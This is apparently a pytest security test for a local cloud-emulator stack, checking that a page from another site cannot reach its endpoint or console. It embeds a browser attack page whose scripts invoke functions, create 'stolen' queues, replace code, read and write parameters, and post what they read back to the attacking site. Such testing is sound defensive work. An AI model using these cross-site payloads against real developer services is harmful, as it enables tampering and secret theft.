"""A page of another site in a real browser, against the local endpoint and the console of a running stack."""

import json

import pytest

from tests.helpers.browser import visited
from tests.helpers.stacks import EXAMPLES, Stack

pytestmark = pytest.mark.packets

# Each attack is a function of the endpoint's and the console's address; it returns what the page could read.
PAGE = """<!doctype html><body><script type="module">
const E = "%(endpoint)s", C = "%(console)s", F = "%(function)s", READ = "%(parameter)s";
const signed = (service) => `X-Amz-Credential=AKIA/20260101/us-east-1/${service}/aws4_request`;
const invocations = `${E}/2015-03-31/functions/${F}/invocations`;
const text = async (answer) => answer.text();
const loaded = (tag, url) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = element.onerror = () => done("");
  element.src = url;
  document.body.append(element);
});
const submitted = (url, fields, enctype) => new Promise((done) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = `frame${Math.random()}`;
  Object.assign(form, { method: "POST", action: url, target: frame.name, enctype });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { name, value });
    form.append(input);
  }
  document.body.append(frame, form);
  form.submit();
  frame.onload = frame.onerror = () => done("");
});
const target = (name) => ({ "X-Amz-Target": name, "Content-Type": "application/x-amz-json-1.1",
  Authorization: `AWS4-HMAC-SHA256 Credential=AKIA/20260101/us-east-1/ssm/aws4_request, SignedHeaders=host, Signature=0` });
const attacks = {
  invoke_by_text: () => fetch(`${invocations}?${signed("lambda")}`, { method: "POST", body: "{}", mode: "no-cors" }).then(text),
  invoke_and_read: () => fetch(`${invocations}?${signed("lambda")}`, { method: "POST", body: "{}" }).then(text),
  invoke_by_beacon: async () => navigator.sendBeacon(`${invocations}?${signed("lambda")}`, "{}") && "",
  invoke_by_form: () => submitted(`${invocations}?${signed("lambda")}`, { x: "1" }, "text/plain"),
  queue_by_image: () => loaded("img", `${E}/?Action=CreateQueue&QueueName=stolen-image&${signed("sqs")}`),
  queue_by_script: () => loaded("script", `${E}/?Action=CreateQueue&QueueName=stolen-script&${signed("sqs")}`),
  queue_by_frame: () => loaded("iframe", `${E}/?Action=CreateQueue&QueueName=stolen-frame&${signed("sqs")}`),
  queue_by_form: () => submitted(`${E}/?${signed("sqs")}`, { Action: "CreateQueue", QueueName: "stolen-form" }, "application/x-www-form-urlencoded"),
  replace_code: () => fetch(`${E}/2015-03-31/functions/${F}/code?${signed("lambda")}`, { method: "PUT", body: JSON.stringify({ ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" }) }).then(text),
  read_parameter: () => fetch(E, { method: "POST", headers: target("AmazonSSM.GetParameter"), body: JSON.stringify({ Name: READ }) }).then(text),
  write_parameter: () => fetch(E, { method: "POST", headers: target("AmazonSSM.PutParameter"), body: JSON.stringify({ Name: "/stolen", Value: "x", Type: "String" }) }).then(text),
  console_state: () => fetch(`${C}/stack`).then(text),
  console_events: () => new Promise((done) => {
    const events = new EventSource(`${C}/events`);
    events.addEventListener("look", (event) => done(event.data));
    events.onerror = () => done("");
  }),
  console_invoke: () => fetch(`${C}/invoke`, { method: "POST", body: JSON.stringify({ function: F }), mode: "no-cors" }).then(text),
  console_invoke_json: () => fetch(`${C}/invoke`, { method: "POST", body: JSON.stringify({ function: F }), headers: { "Content-Type": "application/json" } }).then(text),
};
const read = {};
for (const [name, attack] of Object.entries(attacks)) read[name] = await attack().catch(() => "");
await fetch("/report", { method: "POST", body: JSON.stringify(read) });
</script>"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A running stack with its console, the page that attacks it, and what an attack would leave."""
    stack = Stack(tmp_path_factory.mktemp("attacked") / "state", EXAMPLES / "ssm-demo" / "endpoint.yaml")
    stack.up()
    try:
        yield stack
    finally:
        stack.down()


def page(stack, endpoint=None):
    status = stack.json("status", "--stack", "s")
    console = stack.netful("console", "--stack", "s", check=0).stdout.strip().partition("/#")[0]
    [parameter] = stack.client("ssm").describe_parameters()["Parameters"]
    values = {"console": console, "function": "ReadParameter", "parameter": parameter["Name"]}
    return PAGE % {"endpoint": endpoint or status["endpoint_url"], **values}


def left(stack):
    """What an attack that succeeds would change."""
    return {
        "invocations": stack.netful("logs", "ReadParameter", "--stack", "s", check=0).stdout.count("START RequestId"),
        "code": stack.client("lambda").get_function(FunctionName="ReadParameter")["Configuration"]["CodeSha256"],
        "queues": stack.client("sqs").list_queues().get("QueueUrls", []),
        "parameters": [one["Name"] for one in stack.client("ssm").describe_parameters()["Parameters"]],
    }


SECRETS = ("hello from Parameter Store", "ReadParameter", "aws_", "vpcs")


@pytest.mark.parametrize("site", ["http://evil.test:{site}", "http://rebound.test:ENDPOINT"])
def test_a_page_of_another_site_does_nothing(attacked, site, tmp_path):
    port = attacked.json("status", "--stack", "s")["endpoint_url"].rpartition(":")[2]
    site = site.replace("ENDPOINT", port)
    before = left(attacked)
    with visited(page(attacked, site if "rebound" in site else None), f"{site}/attack.html", tmp_path) as read:
        assert len(read) == 15
        assert {name: said for name, said in read.items() if any(secret in said for secret in SECRETS)} == {}
    assert left(attacked) == before


def test_a_page_of_this_machine_may_call_operations(attacked, tmp_path):
    """The same page does what it wants where its site is the developer's own: the attacks would work."""
    before = left(attacked)
    with visited(page(attacked), "http://localhost:{site}/attack.html", tmp_path):
        pass
    after = left(attacked)
    assert after["invocations"] > before["invocations"]
    assert {url.rpartition("/")[2] for url in after["queues"]} >= {"stolen-form"}
    assert json.dumps(after) != json.dumps(before)
